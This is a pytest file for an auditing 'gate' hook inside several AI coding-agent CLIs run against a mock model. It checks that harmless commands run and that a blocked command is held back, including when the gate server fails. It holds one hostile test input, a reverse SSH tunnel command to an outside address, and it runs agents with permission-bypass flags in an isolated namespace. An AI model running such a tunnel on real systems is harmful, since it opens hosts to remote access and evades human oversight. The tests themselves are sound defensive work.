"""The gate in real CLIs: a harmless command runs, a reverse tunnel does not, nor anything while the gate fails."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from auditor.gate.hooks import HOOK_SECONDS, hooks_of
from auditor.gate.install import install
from tests.agents.conftest import AGENTS
from tests.agents.model import PORT
from tests.gate.test_client import BEHAVIOURS, Place, faked, served

__all__ = ["served"]  # a fixture

HERE = Path(__file__).parents[2]
URL = f"http://127.0.0.1:{PORT}"
SECONDS = 4


@dataclass(frozen=True)
class Cli:
    """How one CLI is run offline. `settings` are files in its home; `project_hooks` where hooks go to the project.

    `log` is a file in its home that holds a denial's reason, for a CLI that ends the turn without telling the model.
    With `inherits`, the hook gets the CLI's environment, and no shell line that could carry a variable.
    """

    program: str
    arguments: tuple[str, ...]
    environment: dict[str, str]
    settings: dict[str, str] = field(default_factory=dict)
    project_hooks: bool = False
    log: str = ""
    inherits: bool = False


_CLINE_PROVIDER = {
    "lastUsedProvider": "openai-compatible",
    "providers": {
        "openai-compatible": {
            "settings": {"provider": "openai-compatible", "apiKey": "x", "model": "mock", "baseUrl": f"{URL}/v1"},
            "updatedAt": "2026-01-01T00:00:00.000Z",
            "tokenSource": "manual",
        }
    },
}
_OPENCODE_PROVIDER = {
    "npm": "@ai-sdk/openai-compatible",
    "name": "mock",
    "options": {"baseURL": f"{URL}/v1", "apiKey": "x"},
    "models": {"mock": {"name": "mock", "tool_call": True}},
}

CLIS = {
    "claude": Cli(
        "claude/lib/python3.11/site-packages/claude_agent_sdk/_bundled/claude",
        ("-p", "go", "--output-format", "json", "--dangerously-skip-permissions"),
        {
            "ANTHROPIC_BASE_URL": URL, "ANTHROPIC_API_KEY": "x", "IS_SANDBOX": "1",
            "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
        },
    ),
    "codex": Cli(
        "node_modules/.bin/codex",
        (
            "exec", "--skip-git-repo-check", "--dangerously-bypass-approvals-and-sandbox",
            "--dangerously-bypass-hook-trust", "go",
        ),
        {"MOCK_KEY": "x"},
        {
            ".codex/config.toml": f'model = "mock"\nmodel_provider = "mock"\n[model_providers.mock]\nname = "mock"\n'
            f'base_url = "{URL}/v1"\nwire_api = "responses"\nenv_key = "MOCK_KEY"\n'
        },
    ),
    "gemini": Cli(
        "node_modules/.bin/gemini",
        ("-m", "gemini-2.5-flash", "-p", "go", "--yolo", "-o", "json"),
        {"GEMINI_API_KEY": "x", "GOOGLE_GEMINI_BASE_URL": URL, "GEMINI_CLI_TRUST_WORKSPACE": "true"},
        {".gemini/settings.json": json.dumps({"security": {"auth": {"selectedType": "gemini-api-key"}}})},
    ),
    "qwen": Cli(
        "node_modules/.bin/qwen",
        ("-p", "go", "--yolo"),
        {"OPENAI_API_KEY": "x", "OPENAI_BASE_URL": URL + "/v1", "OPENAI_MODEL": "mock"},
        {".qwen/settings.json": json.dumps({"security": {"auth": {"selectedType": "openai"}}})},
    ),
    "copilot": Cli(
        "node_modules/.bin/copilot",
        ("-p", "go", "--allow-all-tools"),
        {
            "COPILOT_OFFLINE": "true", "COPILOT_PROVIDER_BASE_URL": URL + "/v1", "COPILOT_PROVIDER_API_KEY": "x",
            "COPILOT_MODEL": "mock",
        },
    ),
    "cline": Cli(
        "node_modules/.bin/cline",
        ("--auto-approve", "true", "-P", "openai-compatible", "-m", "mock", "go on then"),
        {},
        {".cline/data/settings/providers.json": json.dumps({"version": 1, "modes": {}, **_CLINE_PROVIDER})},
        log=".cline/data/logs/cline.log",
    ),
    "opencode": Cli(
        "node_modules/.bin/opencode",
        ("run", "-m", "mock/mock", "go"),
        # where a plugin is installed it asks a registry for its plugin API, and goes on without
        {"OPENCODE_DISABLE_MODELS_FETCH": "1", "OPENCODE_DISABLE_AUTOUPDATE": "1", "NPM_CONFIG_FETCH_RETRIES": "0"},
        {
            ".config/opencode/opencode.json": json.dumps(
                {"provider": {"mock": _OPENCODE_PROVIDER}, "model": "mock/mock", "small_model": "mock/mock"}
            ),
        },
        inherits=True,
    ),
}  # fmt: skip


@dataclass(frozen=True)
class Outcome:
    """What a run came to: whether the model asked for the command, whether it ran, and what the model was told."""

    is_asked: bool
    is_run: bool
    said: str
    log: str

    @property
    def is_held_back(self) -> bool:
        """Whether the command was asked for and did not run; a CLI that never got as far shows nothing."""
        return self.is_asked and not self.is_run


class Bench:
    """Runs one CLI in a directory of its own, with the gate's hook installed by `auditor install`'s own code."""

    def __init__(self, name: str, place: Place, directory: Path, hook: Callable[[str], str] = str) -> None:
        self.cli = CLIS[name]
        self.home, self.work = directory / "home", directory / "work"
        self.home.mkdir(parents=True)
        self.work.mkdir()
        for relative, content in self.cli.settings.items():
            (self.home / relative).parent.mkdir(parents=True, exist_ok=True)
            (self.home / relative).write_text(content, encoding="utf-8")
        hooks = hooks_of(name)
        assert hooks is not None
        path = self.work / str(hooks.project) if self.cli.project_hooks else self.home / str(hooks.user)
        assert install(hooks, path)
        text = path.read_text(encoding="utf-8")
        assert str(HOOK_SECONDS) in text
        if self.cli.inherits:
            self.variables = {"AUDITOR_RUNTIME_DIR": place.environment["AUDITOR_RUNTIME_DIR"]}
            text = text.replace(f'"--timeout", "{HOOK_SECONDS}"', f'"--timeout", "{SECONDS}"')
        else:  # some hosts clean the hook's environment, so what the test needs stands in the command itself
            self.variables = {}
            words = " ".join(f"{key}={value}" for key, value in place.environment.items() if key != "HOME")
            text = text.replace(f"--timeout {HOOK_SECONDS}", f"--timeout {SECONDS}")
            text = text.replace(sys.executable, f"{words} {sys.executable}")
        path.write_text(hook(text), encoding="utf-8")

    def run(self, command: str) -> Outcome:
        """Let the model ask for a command."""
        marker = self.work / "marker"
        program = AGENTS / self.cli.program
        case = {
            "argv": [str(program), *self.cli.arguments],
            "environment": {
                "HOME": str(self.home), "PATH": os.environ["PATH"], "TERM": "dumb", **self.cli.environment,
                **self.variables,
            },
            "directory": str(self.work), "seconds": 120, "command": f"touch {marker}; {command}",
        }  # fmt: skip
        path = self.home.parent / "case.json"
        path.write_text(json.dumps(case), encoding="utf-8")
        done = subprocess.run(
            # a process namespace as well: some CLIs leave daemons behind, which end with it
            ["unshare", "-n", "-p", "--fork", "--kill-child", "--mount-proc",
             sys.executable, "-m", "tests.agents.model", str(path)],
            cwd=HERE, capture_output=True, text=True, timeout=200, check=False,
        )  # fmt: skip
        log = (self.work / "cli.out").read_text(encoding="utf-8", errors="replace") + done.stderr
        assert done.stdout, log
        told = json.loads(done.stdout)
        return Outcome(told["asked"] > 0, marker.exists(), "\n".join(told["said"]), f"{told['status']} {log[-3_000:]}")


each_cli = pytest.mark.parametrize("name", sorted(CLIS))
pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]
TUNNEL = "ssh -o ConnectTimeout=1 -N -R 2222:localhost:22 ops@203.0.113.5"


def _need(name: str) -> None:
    if not (AGENTS / CLIS[name].program).exists():
        pytest.skip(f"{name} is not installed in {AGENTS}")


@each_cli
def test_a_harmless_command_runs(name: str, served: Place, tmp_path: Path) -> None:
    _need(name)
    outcome = Bench(name, served, tmp_path).run("echo harmless")
    assert outcome.is_run, outcome
    assert "auditor" not in outcome.said


@each_cli
def test_a_reverse_tunnel_does_not_and_the_model_is_told_why(name: str, served: Place, tmp_path: Path) -> None:
    _need(name)
    bench = Bench(name, served, tmp_path)
    outcome = bench.run(TUNNEL)
    assert outcome.is_held_back, outcome
    told = (bench.home / bench.cli.log).read_text(encoding="utf-8") if bench.cli.log else outcome.said
    assert "ssh-reverse-forward" in told, outcome


FAULTS = {"hangs": "hangs", "is killed in the middle": "closes after the request", "answers garbage": "answers garbage"}


@each_cli
@pytest.mark.parametrize("fault", sorted(FAULTS))
def test_nothing_runs_when_the_server_fails(name: str, fault: str, tmp_path: Path) -> None:
    _need(name)
    place = Place(tmp_path / "place")
    place.directory.mkdir()
    with faked(place, BEHAVIOURS[FAULTS[fault]]):
        outcome = Bench(name, place, tmp_path / "run").run("true")
    assert outcome.is_held_back, outcome


@each_cli
def test_nothing_runs_when_no_server_can_start(name: str, tmp_path: Path) -> None:
    _need(name)
    place = Place(tmp_path / "place")
    place.directory.mkdir()
    place.runtime.write_text("a file stands here", encoding="utf-8")
    outcome = Bench(name, place, tmp_path / "run").run("true")
    assert outcome.is_held_back, outcome


@each_cli
def test_nothing_runs_when_the_hooks_program_is_gone(name: str, served: Place, tmp_path: Path) -> None:
    _need(name)
    bench = Bench(name, served, tmp_path, lambda text: text.replace(sys.executable, "/nowhere/python"))
    outcome = bench.run("true")
    assert outcome.is_held_back, outcome


@each_cli
def test_the_block_holds_when_the_disk_is_full(name: str, tmp_path: Path) -> None:
    _need(name)
    place = Place(tmp_path / "place")
    (place.directory / "home").mkdir(parents=True)
    (place.directory / "home" / "state").symlink_to("/dev/full")
    try:
        assert place.hook(b'{"tool_name":"Bash","tool_input":{"command":"ls"}}', "60").status == 0
        outcome = Bench(name, place, tmp_path / "run").run(TUNNEL)
        assert outcome.is_held_back, outcome
    finally:
        with contextlib.suppress(OSError):
            place.stop()
